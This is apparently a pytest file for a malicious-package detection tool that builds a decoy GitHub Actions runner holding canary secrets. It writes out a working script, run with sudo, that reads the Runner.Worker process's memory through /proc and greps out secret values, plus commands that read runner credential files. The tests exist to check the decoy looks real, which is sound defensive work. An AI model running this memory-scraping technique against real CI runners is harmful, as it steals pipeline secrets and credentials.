"""A CI job's box: the runner's worker holds the job's secrets in memory, where thieves look for them."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from package_hunter.decoy.canaries import make_canaries
from package_hunter.ecosystems.worlds import WORLDS
from package_hunter.model.box import HOME, RUNNER_JOB, BoxSpec
from package_hunter.model.observation import Canary
from package_hunter.model.scan import Command
from package_hunter.sandbox import RuncSandbox
from package_hunter.sandbox.runner import command, with_runner
from tests.support.sandbox_box import SMALL, needs_image, scan_id

# as the ones of 2025 and 2026 do it: by the name of the process, over its maps, to a pattern of grep
_DUMP = """
import os, re, sys
numbers = [name for name in os.listdir('/proc') if name.isdigit()]
pid = next(p for p in numbers if b'Runner.Worker' in open(f'/proc/{p}/cmdline', 'rb').read())
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
    for line in maps:
        found = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
        if found and '[v' not in line:
            start, end = int(found[1], 16), int(found[2], 16)
            memory.seek(start)
            sys.stdout.buffer.write(memory.read(end - start))
"""
_PATTERN = r'"[^"]+":\{"value":"[^"]*","isSecret":true\}'
_THIEF = f"sudo python3 -c \"$DUMP\" | tr -d '\\0' | grep -aoE '{_PATTERN}' | sort -u"


@pytest.fixture(scope="module")
def made() -> tuple[tuple[Canary, ...], BoxSpec]:
    canaries, files, env = make_canaries("s", WORLDS["ci"].canaries)
    return canaries, BoxSpec(
        scan_id=scan_id(), limits=SMALL, files=with_runner((*files, *WORLDS["ci"].files)), env=env
    )


@pytest.fixture(scope="module")
def job(made: tuple[tuple[Canary, ...], BoxSpec]) -> Iterator[RuncSandbox]:
    needs_image()
    box = RuncSandbox(made[1])
    try:
        box.create()
        box.start()
        box.attend(command())
        yield box
    finally:
        box.destroy()


def said(box: RuncSandbox, line: str, **env: str) -> str:
    run = box.run(Command(("sh", "-c", line), HOME, env, timeout=30), "install")
    assert run.exit_code == 0, run.output_tail
    return run.output_tail


def test_every_secret_of_the_job_is_read_out_of_the_workers_memory(
    job: RuncSandbox, made: tuple[tuple[Canary, ...], BoxSpec]
) -> None:
    told = said(job, _THIEF, DUMP=_DUMP)
    held = {canary.value for canary in made[0] if canary.place == "memory:Runner.Worker"}
    assert len(held) >= 6
    assert set(re.findall(r'"value":"([^"]*)","isSecret":true', told)) == held


def test_its_message_lies_in_no_file_and_it_looks_like_the_real_one(job: RuncSandbox) -> None:
    told = said(
        job, f"ls -A {RUNNER_JOB} 2>&1; pgrep -af Runner.Worker; readlink /proc/$(pgrep Runner.Worker)/exe"
    )
    assert "No such file" in told
    assert f"{HOME}/actions-runner/bin/Runner.Worker spawnclient 134 137" in told
    assert told.splitlines()[-1].endswith("/actions-runner/bin/Runner.Worker")


def test_sudo_asks_for_no_password(job: RuncSandbox) -> None:
    assert said(job, "sudo -n true && sudo whoami && sudo -E FOO=bar sh -c 'echo $FOO'") == "root\nbar\n"


def test_the_jobs_variables_name_its_services(job: RuncSandbox) -> None:
    told = said(job, "env; cat $GITHUB_ENV; cat ~/actions-runner/.credentials_rsaparams; ls -A $RUNNER_TEMP")
    for name in (
        "RUNTIME_TOKEN",
        "ID_TOKEN_REQUEST_URL",
        "ID_TOKEN_REQUEST_TOKEN",
        "RESULTS_URL",
        "CACHE_URL",
    ):
        assert f"ACTIONS_{name}=" in told
    assert "git-credentials-" in told and '"modulus"' in told


def test_the_runner_is_not_waited_for_nor_told_as_left_running(job: RuncSandbox) -> None:
    assert job.alive() == []
    left = job.end(20)
    assert left.found == () and left.since_ns is None


def test_what_a_package_leaves_is_told_beside_it(job: RuncSandbox) -> None:
    said(job, "sh -c 'exec sleep 3000' >/dev/null 2>&1 &")
    assert len(job.alive()) == 1
